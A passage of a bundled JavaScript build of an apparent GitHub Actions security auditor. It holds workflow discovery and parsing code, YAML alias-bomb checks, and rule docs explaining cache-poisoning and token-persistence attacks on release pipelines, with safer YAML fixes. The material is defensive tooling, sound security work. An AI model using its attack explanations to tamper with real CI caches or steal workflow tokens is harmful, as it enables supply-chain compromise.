export const id = 601;
export const ids = [601];
export const modules = {

/***/ 11669:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  to: () => (/* binding */ PARSE_ERROR),
  sb: () => (/* binding */ audit),
  auditCandidates: () => (/* binding */ auditCandidates),
  L7: () => (/* binding */ auditSource),
  Tc: () => (/* binding */ sortFindings)
});

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
// EXTERNAL MODULE: ./packages/core/dist/index.js + 4 modules
var core_dist = __webpack_require__(57775);
// EXTERNAL MODULE: ./packages/workflow/dist/discover.js
var discover = __webpack_require__(72069);
// EXTERNAL MODULE: ./packages/workflow/dist/finding.js
var dist_finding = __webpack_require__(8413);
// EXTERNAL MODULE: ./packages/workflow/dist/model/build.js
var build = __webpack_require__(39666);
// EXTERNAL MODULE: ./packages/workflow/dist/model/source.js
var source = __webpack_require__(11257);
// EXTERNAL MODULE: ./packages/workflow/dist/policy/config.js
var policy_config = __webpack_require__(77045);
// EXTERNAL MODULE: ./packages/workflow/dist/policy/glob.js
var glob = __webpack_require__(78889);
// EXTERNAL MODULE: ./packages/workflow/dist/registry.js + 42 modules
var registry = __webpack_require__(42043);
// EXTERNAL MODULE: ./packages/workflow/dist/parallel.js
var dist_parallel = __webpack_require__(77185);
;// CONCATENATED MODULE: ./packages/workflow/dist/suppress.js
const IGNORE = /#\s*peptide:\s*ignore\[([^\]]*)\]/;
/** Rule ids ignored on a line by `# peptide: ignore[rule-a, rule-b] reason`. */
function ignoredOn(source, line) {
    const match = IGNORE.exec(source.line(line));
    return match ? match[1].split(",").map((s) => s.trim()).filter(Boolean) : [];
}
/** True when the finding's line, or the line above it, carries an ignore comment for its rule. */
function isSuppressed(finding, source) {
    if (!source.text.includes("peptide:"))
        return false;
    for (const line of [finding.line, finding.line - 1]) {
        const ids = ignoredOn(source, line);
        if (ids.includes(finding.rule) || ids.includes("*"))
            return true;
    }
    return false;
}
//# sourceMappingURL=suppress.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/audit.js












const PARSE_ERROR = "parse-error";
const MAX_ALIASES = 100;
/** Audits workflow files and action manifests found under the given paths. */
async function audit(paths, options = {}) {
    const cwd = options.cwd ?? process.cwd();
    const config = options.config ?? policy_config/* EMPTY_POLICY */.X;
    const { candidates, skipped } = await (0,discover/* discover */.k)(paths, cwd);
    const parallel = options.parallel && !options.rules && candidates.length >= dist_parallel/* PARALLEL_MIN_FILES */.lQ ? options.parallel : undefined;
    const part = parallel ? await (0,dist_parallel/* auditInWorkers */.Ov)(candidates, cwd, config, parallel) : await auditCandidates(candidates, cwd, config, options.rules);
    return { findings: sortFindings(part.findings), files: part.files, skipped: [...skipped, ...part.skipped], targets: part.targets };
}
/** Reads and audits a list of candidates in this thread. */
async function auditCandidates(candidates, cwd, config, rules) {
    const findings = [];
    const targets = [];
    const skipped = [];
    let files = 0;
    const results = await Promise.all(candidates.map((c) => readCandidate(c, cwd, config)));
    for (const result of results) {
        if (result.kind === "skip") {
            if (result.reason)
                skipped.push({ file: result.file, reason: result.reason });
            continue;
        }
        files++;
        if (result.kind === "error") {
            findings.push(result.finding);
            continue;
        }
        const out = auditSource(result.source, result.fileKind, { config, rules, explicit: result.explicit });
        findings.push(...out.findings);
        if (out.target)
            targets.push(out.target);
    }
    return { findings, files, skipped, targets };
}
async function readCandidate(c, cwd, config) {
    const rel = relative(cwd, c.absolute);
    if (config.ignore.length > 0 && (0,glob/* matchesAny */._)(rel, config.ignore))
        return { kind: "skip", file: rel };
    let text;
    try {
        text = await (0,core_dist/* readTextFile */.Gu)(c.absolute, { root: c.root });
    }
    catch (err) {
        if ((0,core_dist/* isPeptideError */.UR)(err) && err.code === "INPUT_OUTSIDE_ROOT")
            return { kind: "skip", file: rel, reason: "resolves outside the scanned directory; not followed" };
        return { kind: "error", finding: parseError(rel, 1, 1, `${(0,core_dist/* errorMessage */.gJ)(err).replace(`${c.absolute}: `, "")}`) };
    }
    // A YAML file found directly in a scanned folder is audited only if it looks like a workflow.
    if (!c.explicit && !/^(jobs|runs)\s*:/m.test(text))
        return { kind: "skip", file: rel };
    return { kind: "source", source: new source/* SourceFile */.sC(rel, text), fileKind: c.kind, explicit: c.explicit };
}
/** Audits one already-read file. `kind` defaults from the file name. */
function auditSource(source, kind = (0,discover/* kindOf */.I)(source.path), options = {}) {
    const config = options.config ?? policy_config/* EMPTY_POLICY */.X;
    const yamlError = source.doc.errors[0];
    if (yamlError) {
        const at = source.position(yamlError.pos[0]);
        return { findings: [parseError(source.path, at.line, at.column, `not valid YAML: ${firstLine(yamlError.message)}`)] };
    }
    const bomb = aliasBomb(source);
    if (bomb)
        return { findings: [parseError(source.path, bomb.line, bomb.column, `refused: more than ${MAX_ALIASES} YAML alias expansions (an alias bomb)`)] };
    let target;
    try {
        target = kind === "action" ? (0,build/* buildAction */.fL)(source) : (0,build/* buildWorkflow */.aL)(source);
    }
    catch (err) {
        if (err instanceof build/* ModelError */.me) {
            const at = source.positionOf(err.node ?? null);
            return { findings: [parseError(source.path, at.line, at.column, `not ${kind === "action" ? "an action manifest" : "a workflow"}: ${err.message}`)] };
        }
        throw err;
    }
    const findings = [];
    for (const rule of options.rules ?? registry/* RULES */.y) {
        if (config.disabled.has(rule.id))
            continue;
        if (rule.targets && !rule.targets.includes(target.kind))
            continue;
        const severity = config.severity.get(rule.id);
        rule.check({
            target,
            config,
            report: (r) => {
                const finding = {
                    rule: rule.id,
                    severity: severity ?? r.severity ?? rule.severity,
                    confidence: r.confidence ?? rule.confidence,
                    file: source.path,
                    line: r.at.line,
                    column: r.at.column,
                    job: r.job,
                    step: r.step,
                    message: r.message,
                    docs: (0,dist_finding/* docsUrl */.fs)(rule.id),
                    fix: r.fix,
                };
                if (!isSuppressed(finding, source))
                    findings.push(finding);
            },
        });
    }
    return { findings, target };
}
/** An anchor (`&name`) where YAML allows one; without anchors there are no aliases to expand. */
const ANCHOR = /(?:^|[\s:[{,-])&[\w-]/m;
function aliasBomb(source) {
    if (!ANCHOR.test(source.text) || !source.text.includes("*"))
        return undefined;
    let hasAlias = false;
    (0,dist.visit)(source.doc, {
        Alias: () => {
            hasAlias = true;
            return dist.visit.BREAK;
        },
    });
    if (!hasAlias)
        return undefined;
    try {
        source.doc.toJS({ maxAliasCount: MAX_ALIASES });
        return undefined;
    }
    catch {
        return { line: 1, column: 1 };
    }
}
function parseError(file, line, column, message) {
    return { rule: PARSE_ERROR, severity: "high", confidence: "high", file, line, column, message, docs: (0,dist_finding/* docsUrl */.fs)(PARSE_ERROR) };
}
function sortFindings(findings) {
    return findings.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : 0)));
}
function relative(cwd, file) {
    return external_node_path_.relative(cwd, file).split(external_node_path_.sep).join("/");
}
function firstLine(message) {
    return message.split("\n")[0] ?? message;
}
//# sourceMappingURL=audit.js.map

/***/ }),

/***/ 72069:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   I: () => (/* binding */ kindOf),
/* harmony export */   k: () => (/* binding */ discover)
/* harmony export */ });
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var _peptide_core__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(57775);



const SKIP_DIRS = new Set(["node_modules", ".git", "vendor", "dist"]);
const YAML_EXT = /\.ya?ml$/i;
const ACTION_NAME = /^action\.ya?ml$/i;
function kindOf(file) {
    return ACTION_NAME.test(node_path__WEBPACK_IMPORTED_MODULE_1__.basename(file)) ? "action" : "workflow";
}
/**
 * Expands files and directories into audit candidates: `.github/workflows/*.y{a,}ml` and
 * `action.y{a,}ml` anywhere below a directory, plus YAML files directly inside a directory given
 * by name (a folder of workflows). Symlinks are not followed out of the directory given.
 */
async function discover(inputs, cwd) {
    const candidates = [];
    const skipped = [];
    const seen = new Set();
    const add = (c) => {
        if (seen.has(c.absolute))
            return;
        seen.add(c.absolute);
        candidates.push(c);
    };
    for (const input of inputs) {
        const absolute = node_path__WEBPACK_IMPORTED_MODULE_1__.resolve(cwd, input);
        const info = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(absolute).catch(() => undefined);
        if (!info)
            throw new _peptide_core__WEBPACK_IMPORTED_MODULE_2__/* .InputError */ .dz("INPUT_NOT_FOUND", `${input}: no such file or directory; pass workflow files or directories`);
        if (info.isFile()) {
            add({ absolute, kind: kindOf(absolute), root: node_path__WEBPACK_IMPORTED_MODULE_1__.dirname(absolute), explicit: true });
            continue;
        }
        await walk(absolute, absolute, 0, add, skipped);
    }
    candidates.sort((a, b) => (a.absolute < b.absolute ? -1 : a.absolute > b.absolute ? 1 : 0));
    return { candidates, skipped };
}
async function walk(root, dir, depth, add, skipped) {
    if (depth > 32)
        return;
    const dirents = await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)(dir, { withFileTypes: true }).catch(() => []);
    const inWorkflows = /(^|[\\/])\.github[\\/]workflows$/.test(dir);
    const subdirs = [];
    for (const d of dirents) {
        const full = node_path__WEBPACK_IMPORTED_MODULE_1__.join(dir, d.name);
        if (d.isDirectory()) {
            if (!SKIP_DIRS.has(d.name))
                subdirs.push(full);
            continue;
        }
        const isAction = ACTION_NAME.test(d.name);
        const isWorkflow = YAML_EXT.test(d.name) && (inWorkflows || depth === 0);
        if (!isAction && !isWorkflow)
            continue;
        if (d.isSymbolicLink()) {
            try {
                await (0,_peptide_core__WEBPACK_IMPORTED_MODULE_2__/* .assertInsideRoot */ .Le)(full, root);
                if (!(await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(full)).isFile())
                    continue;
            }
            catch (err) {
                skipped.push({ file: full, reason: (0,_peptide_core__WEBPACK_IMPORTED_MODULE_2__/* .isPeptideError */ .UR)(err) && err.code === "INPUT_OUTSIDE_ROOT" ? "symlink leaves the scanned directory; not followed" : "broken symlink" });
                continue;
            }
        }
        else if (!d.isFile())
            continue;
        add({ absolute: full, kind: isAction ? "action" : "workflow", root, explicit: inWorkflows || isAction });
    }
    await Promise.all(subdirs.map((s) => walk(root, s, depth + 1, add, skipped)));
}
//# sourceMappingURL=discover.js.map

/***/ }),

/***/ 62755:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A9: () => (/* binding */ contextPaths),
/* harmony export */   EE: () => (/* binding */ isWholeExpression),
/* harmony export */   YK: () => (/* binding */ parseExpression),
/* harmony export */   zV: () => (/* binding */ findExpressions)
/* harmony export */ });
/* harmony import */ var _actions_expressions__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(49909);

const CONTEXTS = ["github", "env", "inputs", "steps", "secrets", "matrix", "needs", "vars", "job", "jobs", "runner", "strategy"];
/** Finds each `${{ ... }}` in a string; braces inside single-quoted literals do not close it. */
function findExpressions(value) {
    const spans = [];
    let from = 0;
    for (;;) {
        const start = value.indexOf("${{", from);
        if (start < 0)
            return spans;
        let i = start + 3;
        let inString = false;
        let end = -1;
        while (i < value.length) {
            const ch = value[i];
            if (ch === "'") {
                // '' inside a literal is an escaped quote
                if (inString && value[i + 1] === "'")
                    i++;
                else
                    inString = !inString;
            }
            else if (!inString && ch === "}" && value[i + 1] === "}") {
                end = i + 2;
                break;
            }
            i++;
        }
        if (end < 0)
            return spans;
        spans.push({ start, end, text: value.slice(start, end), inner: value.slice(start + 3, end - 2).trim() });
        from = end;
    }
}
const parsed = new Map();
/** Parses an expression with GitHub's own parser; null when it does not parse. Cached by text. */
function parseExpression(inner) {
    const cached = parsed.get(inner);
    if (cached !== undefined)
        return cached;
    let expr = null;
    try {
        const { tokens } = new _actions_expressions__WEBPACK_IMPORTED_MODULE_0__/* .Lexer */ .JG(inner).lex();
        expr = new _actions_expressions__WEBPACK_IMPORTED_MODULE_0__/* .Parser */ .iX(tokens, CONTEXTS, []).parse();
    }
    catch {
        expr = null;
    }
    if (parsed.size > 10_000)
        parsed.clear();
    parsed.set(inner, expr);
    return expr;
}
/** Functions whose output is a boolean or number, so the raw text cannot reach the shell. */
const NON_STRING_FUNCTIONS = new Set(["contains", "startswith", "endswith", "success", "failure", "always", "cancelled", "hashfiles"]);
/**
 * Context paths read by an expression: `github.event.pull_request.title`, `steps.x.outputs.y`,
 * `github.event.commits.*.message`. Comparison operands (`a == 'b'`) are marked sanitized: the
 * expression yields a boolean.
 */
function contextPaths(inner) {
    const expr = parseExpression(inner);
    if (!expr)
        return [];
    const out = [];
    walk(expr, false, out);
    return out;
}
function walk(node, sanitized, out) {
    if (!node || typeof node !== "object")
        return;
    const path = accessPath(node);
    if (path !== undefined) {
        out.push({ path, sanitized });
        // index expressions may themselves read contexts: github.event[inputs.key]
        collectIndexReads(node, sanitized, out);
        return;
    }
    const n = node;
    if ("functionName" in n && Array.isArray(n.args)) {
        const name = String(n.functionName.lexeme ?? "").toLowerCase();
        for (const arg of n.args)
            walk(arg, sanitized || NON_STRING_FUNCTIONS.has(name), out);
        return;
    }
    if ("left" in n && "right" in n) {
        // == != < > ... yield booleans
        walk(n.left, true, out);
        walk(n.right, true, out);
        return;
    }
    if ("operator" in n && "expr" in n) {
        walk(n.expr, true, out); // ! yields a boolean
        return;
    }
    if ("operator" in n && Array.isArray(n.args)) {
        // || yields an operand; && yields its last operand, or an earlier one only when it is falsy ('')
        const and = String(n.operator.lexeme ?? "") === "&&";
        n.args.forEach((arg, i) => walk(arg, sanitized || (and && i < n.args.length - 1), out));
        return;
    }
    if ("group" in n)
        walk(n.group, sanitized, out);
}
/** The dotted path of a ContextAccess/IndexAccess chain, or undefined when the node is not one. */
function accessPath(node) {
    const n = node;
    if ("name" in n && n.name && typeof n.name === "object" && !("functionName" in n)) {
        return String(n.name.lexeme).toLowerCase();
    }
    if ("expr" in n && "index" in n) {
        const base = accessPath(n.expr);
        if (base === undefined)
            return undefined;
        const index = n.index;
        const literal = index && "literal" in index ? index.literal.value : undefined;
        const key = typeof literal === "string" ? literal.toLowerCase() : typeof literal === "number" ? "*" : "*";
        return `${base}.${key}`;
    }
    return undefined;
}
function collectIndexReads(node, sanitized, out) {
    const n = node;
    if ("expr" in n && "index" in n) {
        const index = n.index;
        if (index && !("literal" in index))
            walk(index, sanitized, out);
        collectIndexReads(n.expr, sanitized, out);
    }
}
/** True when a string is exactly one expression and nothing else. */
function isWholeExpression(value) {
    const spans = findExpressions(value);
    return spans.length === 1 && value.trim() === spans[0].text;
}
//# sourceMappingURL=expressions.js.map

/***/ }),

/***/ 8413:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   M0: () => (/* binding */ DOCS_BASE),
/* harmony export */   _Z: () => (/* binding */ isSeverity),
/* harmony export */   fs: () => (/* binding */ docsUrl),
/* harmony export */   ix: () => (/* binding */ CONFIDENCES),
/* harmony export */   oC: () => (/* binding */ SEVERITIES),
/* harmony export */   qs: () => (/* binding */ severityRank)
/* harmony export */ });
const SEVERITIES = ["low", "medium", "high", "critical"];
const CONFIDENCES = ["low", "medium", "high"];
const DOCS_BASE = "https://github.com/peptide-dev/peptide/blob/main/docs/rules";
function docsUrl(rule) {
    return `${DOCS_BASE}/${rule}.md`;
}
function severityRank(severity) {
    return SEVERITIES.indexOf(severity);
}
function isSeverity(value) {
    return SEVERITIES.includes(value);
}
//# sourceMappingURL=finding.js.map

/***/ }),

/***/ 4601:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  ACTIONS: () => (/* reexport */ actions/* ACTIONS */.k),
  CONFIDENCES: () => (/* reexport */ finding/* CONFIDENCES */.ix),
  DEFAULT_POLICY_FILE: () => (/* reexport */ DEFAULT_POLICY_FILE),
  DOCS_BASE: () => (/* reexport */ finding/* DOCS_BASE */.M0),
  EMPTY_POLICY: () => (/* reexport */ config/* EMPTY_POLICY */.X),
  FIRST_PARTY_OWNERS: () => (/* reexport */ dist_uses/* FIRST_PARTY_OWNERS */.Jd),
  GH_COMMANDS: () => (/* reexport */ commands/* GH_COMMANDS */.FS),
  ModelError: () => (/* reexport */ build/* ModelError */.me),
  PARALLEL_MIN_FILES: () => (/* reexport */ parallel/* PARALLEL_MIN_FILES */.lQ),
  PARSE_ERROR: () => (/* reexport */ audit/* PARSE_ERROR */.to),
  PRIVILEGED_TRIGGERS: () => (/* reexport */ walk/* PRIVILEGED_TRIGGERS */.wV),
  REUSABLE_WORKFLOWS: () => (/* reexport */ actions/* REUSABLE_WORKFLOWS */.L),
  RULES: () => (/* reexport */ registry/* RULES */.y),
  RULE_DOCS: () => (/* reexport */ RULE_DOCS),
  SCOPES: () => (/* reexport */ permissions_scopes/* SCOPES */.iW),
  SCRIPT_COMMANDS: () => (/* reexport */ commands/* SCRIPT_COMMANDS */.zf),
  SEVERITIES: () => (/* reexport */ finding/* SEVERITIES */.oC),
  SourceFile: () => (/* reexport */ model_source/* SourceFile */.sC),
  TAG_ONLY_ACTIONS: () => (/* reexport */ TAG_ONLY_ACTIONS),
  UNTRUSTED_CODE_TRIGGERS: () => (/* reexport */ walk/* UNTRUSTED_CODE_TRIGGERS */.$d),
  actionName: () => (/* reexport */ dist_uses/* actionName */.aM),
  allScopes: () => (/* reexport */ permissions_scopes/* allScopes */.Dn),
  allSteps: () => (/* reexport */ walk/* allSteps */.Bd),
  applyPins: () => (/* reexport */ applyPins),
  audit: () => (/* reexport */ audit/* audit */.sb),
  auditCandidates: () => (/* reexport */ audit.auditCandidates),
  auditInWorkers: () => (/* reexport */ parallel/* auditInWorkers */.Ov),
  auditSource: () => (/* reexport */ audit/* auditSource */.L7),
  buildAction: () => (/* reexport */ build/* buildAction */.fL),
  buildPermissions: () => (/* reexport */ build/* buildPermissions */.l_),
  buildWorkflow: () => (/* reexport */ build/* buildWorkflow */.aL),
  collectPins: () => (/* reexport */ collectPins),
  contextPaths: () => (/* reexport */ expressions/* contextPaths */.A9),
  covers: () => (/* reexport */ permissions_scopes/* covers */.hU),
  declaredGrants: () => (/* reexport */ excess/* declaredGrants */.kL),
  discover: () => (/* reexport */ discover/* discover */.k),
  docsUrl: () => (/* reexport */ finding/* docsUrl */.fs),
  entries: () => (/* reexport */ model_source/* entries */.jO),
  eventNames: () => (/* reexport */ walk/* eventNames */.Z2),
  exceeds: () => (/* reexport */ excess/* exceeds */.Or),
  findExpressions: () => (/* reexport */ expressions/* findExpressions */.zV),
  fixPermissions: () => (/* reexport */ fixPermissions),
  formatGrants: () => (/* reexport */ permissions_scopes/* formatGrants */.N_),
  grantEntries: () => (/* reexport */ permissions_scopes/* grantEntries */.nE),
  inheritors: () => (/* reexport */ excess/* inheritors */.yH),
  isAuditWorker: () => (/* reexport */ parallel/* isAuditWorker */.w6),
  isDigestPinned: () => (/* reexport */ dist_uses/* isDigestPinned */.H_),
  isMap: () => (/* reexport */ model_source/* isMap */.jh),
  isPair: () => (/* reexport */ model_source/* isPair */.tO),
  isScalar: () => (/* reexport */ model_source/* isScalar */.jn),
  isScope: () => (/* reexport */ permissions_scopes/* isScope */.T2),
  isSeq: () => (/* reexport */ model_source/* isSeq */.oP),
  isSeverity: () => (/* reexport */ finding/* isSeverity */._Z),
  isShaRef: () => (/* reexport */ dist_uses/* isShaRef */.AU),
  isWholeExpression: () => (/* reexport */ expressions/* isWholeExpression */.EE),
  jobExcess: () => (/* reexport */ excess/* jobExcess */.lJ),
  kindOf: () => (/* reexport */ discover/* kindOf */.I),
  listOf: () => (/* reexport */ model_source/* listOf */.c3),
  loadLocalUses: () => (/* reexport */ loadLocalUses),
  loadPolicy: () => (/* reexport */ loadPolicy),
  maxAccess: () => (/* reexport */ permissions_scopes/* maxAccess */.Vj),
  mergeGrants: () => (/* reexport */ permissions_scopes/* mergeGrants */.GI),
  narrowedTop: () => (/* reexport */ excess/* narrowedTop */.KR),
  pairOf: () => (/* reexport */ model_source/* pairOf */.cF),
  parseExpression: () => (/* reexport */ expressions/* parseExpression */.YK),
  parsePolicy: () => (/* reexport */ config/* parsePolicy */.O),
  parseUses: () => (/* reexport */ dist_uses/* parseUses */.Ap),
  pinKey: () => (/* reexport */ pinKey),
  pinsFromFindings: () => (/* reexport */ pinsFromFindings),
  planPermissions: () => (/* reexport */ planPermissions),
  planPins: () => (/* reexport */ planPins),
  requiredPermissions: () => (/* reexport */ compute/* requiredPermissions */.k),
  requirementsOf: () => (/* reexport */ excess/* requirementsOf */.CG),
  resolvePins: () => (/* reexport */ resolvePins),
  ruleById: () => (/* reexport */ registry/* ruleById */.B),
  ruleCatalog: () => (/* reexport */ ruleCatalog),
  scalarText: () => (/* reexport */ model_source/* scalarText */.ws),
  scriptUse: () => (/* reexport */ commands/* scriptUse */.ZE),
  serveAuditWorker: () => (/* reexport */ parallel/* serveAuditWorker */.FY),
  severityRank: () => (/* reexport */ finding/* severityRank */.qs),
  shellWords: () => (/* reexport */ commands/* shellWords */.CH),
  sortFindings: () => (/* reexport */ audit/* sortFindings */.Tc),
  stepLabel: () => (/* reexport */ compute/* stepLabel */.v),
  textOf: () => (/* reexport */ model_source/* textOf */.b6),
  topExcess: () => (/* reexport */ excess/* topExcess */.fm),
  topFlagged: () => (/* reexport */ excess/* topFlagged */.yv),
  valueOf: () => (/* reexport */ model_source/* valueOf */.RP)
});

// EXTERNAL MODULE: ./packages/workflow/dist/audit.js + 1 modules
var audit = __webpack_require__(11669);
// EXTERNAL MODULE: ./packages/workflow/dist/discover.js
var discover = __webpack_require__(72069);
// EXTERNAL MODULE: ./packages/workflow/dist/expressions.js
var expressions = __webpack_require__(62755);
// EXTERNAL MODULE: ./packages/workflow/dist/finding.js
var finding = __webpack_require__(8413);
// EXTERNAL MODULE: ./packages/workflow/dist/model/build.js
var build = __webpack_require__(39666);
// EXTERNAL MODULE: ./packages/workflow/dist/model/source.js
var model_source = __webpack_require__(11257);
// EXTERNAL MODULE: ./packages/workflow/dist/policy/config.js
var config = __webpack_require__(77045);
// EXTERNAL MODULE: ./packages/workflow/dist/registry.js + 42 modules
var registry = __webpack_require__(42043);
// EXTERNAL MODULE: ./packages/workflow/dist/uses.js
var dist_uses = __webpack_require__(72786);
// EXTERNAL MODULE: ./packages/workflow/dist/walk.js
var walk = __webpack_require__(78443);
;// CONCATENATED MODULE: ./packages/workflow/dist/generated/rule-docs.js
// Generated by scripts/gen-rule-docs.mjs from docs/rules/*.md. Do not edit.
/** Markdown help of each rule, by rule id. */
const RULE_DOCS = {
    "cache-poisoning": "# cache-poisoning\n\n**Severity:** high · **Confidence:** medium for a cache enabled explicitly in a release-triggered workflow and for caches in `pull_request_target` jobs that build the pull request; low for caches on by default or behind an expression, and for jobs found to publish by their steps alone\n\n## What it finds\n\nA step that restores a GitHub Actions cache:\n\n- `actions/cache` and `actions/cache/restore` (unless `lookup-only: true`);\n- setup actions with a cache input: `actions/setup-node` / `setup-python` / `setup-java` /\n  `setup-dotnet` `cache:`, `astral-sh/setup-uv` `enable-cache: true`, `ruby/setup-ruby`\n  `bundler-cache: true`, `PyO3/maturin-action` `sccache: true`, `graalvm/setup-graalvm` `cache:`;\n- actions that cache by default: `actions/setup-go` from v4 (unless `cache: false`),\n  `gradle/actions/setup-gradle`, `Swatinem/rust-cache`, `actions-rust-lang/setup-rust-toolchain`,\n  `jdx/mise-action`, `oven-sh/setup-bun`, `mozilla-actions/sccache-action`, Nix caches...;\n- `docker/build-push-action` with `cache-from: type=gha`;\n\nin a job that ships: a workflow run on tag pushes, the `release` event or pushes to release\nbranches (its jobs that publish, sign, deploy or hold write permission, and the jobs that feed\nthem artifacts or outputs), or a job that publishes with a known step (`pypa/gh-action-pypi-publish`,\n`goreleaser release`, `npm publish`, `docker push`, `gh release create`...). Also any cache in a\n`pull_request_target` job that checks out the pull request.\n\nIt does not report test jobs of a release workflow that feed nothing to the publishing jobs,\npushes to local test registries, `goreleaser --snapshot`, `actions/cache/save`, and caches in\nworkflows that ship nothing.\n\n## Why it matters on a payments release path\n\nCache entries are scoped by branch, and runs for tags and release events restore entries saved\nin the default branch's scope. Anything that gets code to run once there (a template injection\nin an issue bot, a `pull_request_target` job that builds a fork, a compromised dev dependency)\ncan save an entry under the key the release build will look up, or evict entries to make room\nfor its own. The release job then restores the attacker's `node_modules`, Go module cache or\ncompiler, and the tampered build is signed and shipped with valid provenance.\n\n## Before\n\n```yaml\non:\n  push:\n    tags: [\"v*\"]\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n      id-token: write\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0\n      - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0\n        with:\n          args: release --clean\n```\n\n## After\n\n```yaml\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - uses: actions/setup-go@d35c59abb061a4a6fb18e82ac0862c26744d6ab5 # v5.5.0\n        with:\n          cache: false\n      - uses: goreleaser/goreleaser-action@9c156ee8a17a598857849441385a2041ef570552 # v6.3.0\n        with:\n          args: release --clean\n```\n\nA release build that starts from a clean runner is slower and reproducible from the lockfile\nalone; that is the trade a payments release path should make.\n",
    "credential-persistence": "# credential-persistence\n\n**Severity:** high when a later step uploads the checkout's `.git` as an artifact, or when the\njob runs pull-request code under a privileged trigger; medium when a later step runs a\nthird-party action; low otherwise · **Confidence:** high for the upload case, lower for the rest\n\n## What it finds\n\nAn `actions/checkout` step without `persist-credentials: false`, followed by other steps in the\nsame job (or composite action). The checkout's `persist-credentials` input defaults to `true`:\nit writes the token it fetched with into git's configuration so that later `git` commands are\nauthenticated, and it stays there until the job ends.\n\nHow bad that is depends on what runs next:\n\n| later in the job | severity |\n|---|---|\n| `actions/upload-artifact` of the workspace (`.`, `${{ github.workspace }}`, the checkout's `path:`, or a path naming `.git`) with hidden files included, and checkout before v6 | high |\n| pull-request code checked out under `pull_request_target`, `workflow_run`, `issue_comment`... | high |\n| a third-party action (not `actions/*` or `github/*`) or a `docker://` step | medium |\n| only this repository's scripts and GitHub's own actions | low |\n\nNot reported:\n\n- `persist-credentials: false`, or an expression (decided at run time);\n- the job pushes with git later (`git push`, `mike deploy --push`, or an action that pushes with\n  git's config: `stefanzweifel/git-auto-commit-action`, `EndBug/add-and-commit`,\n  `ad-m/github-push-action`, `peter-evans/create-pull-request`, `changesets/action`): the\n  persisted credential is then the mechanism the job relies on;\n- `persist-credentials: true` written out, or a `token:` other than the job's own\n  `GITHUB_TOKEN` (a PAT or app token given to push with), unless the workspace is uploaded:\n  these ask for persistence on purpose;\n- a checkout that is the job's last step.\n\n`actions/upload-artifact` v4.4.0 and later leave hidden files (so `.git`) out unless\n`include-hidden-files: true`; a version that cannot be read from the tag or the `# vX.Y.Z`\ncomment is assumed to be older. `actions/checkout` v6 keeps the credential in a file under\n`$RUNNER_TEMP` instead of `.git/config`, so uploads no longer carry it, but every later step\ncan still read it.\n\n## Why it matters on a payments release path\n\nThe token checkout persists is the job's `GITHUB_TOKEN` (or the PAT you gave it). Every later\nstep, including every third-party action and every dependency's install script, can read it\nfrom disk without it ever appearing in the workflow, and use it with the job's permissions until\nthe job ends: push a commit to a release branch, move a tag, edit a release. Uploading the\nworkspace as an artifact publishes it to anyone who can read the repository (ArtiPACKED, Palo\nAlto Unit 42, 2024). Under `pull_request_target` the job's token has write access to the base\nrepository and the pull request's code runs beside it.\n\n## Before\n\n```yaml\nsteps:\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n  - run: make dist\n  - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n    with:\n      path: .\n      include-hidden-files: true\n```\n\n## After\n\n```yaml\nsteps:\n  - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n    with:\n      persist-credentials: false\n  - run: make dist\n  - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2\n    with:\n      path: dist/\n```\n\nA job that must push can keep the default, or better, keep `persist-credentials: false` and\nhand the token to the one step that pushes:\n\n```yaml\n  - run: git push \"https://x-access-token:${GH_TOKEN}@github.com/${GITHUB_REPOSITORY}.git\" HEAD:main\n    env:\n      GH_TOKEN: ${{ github.token }}\n```\n",
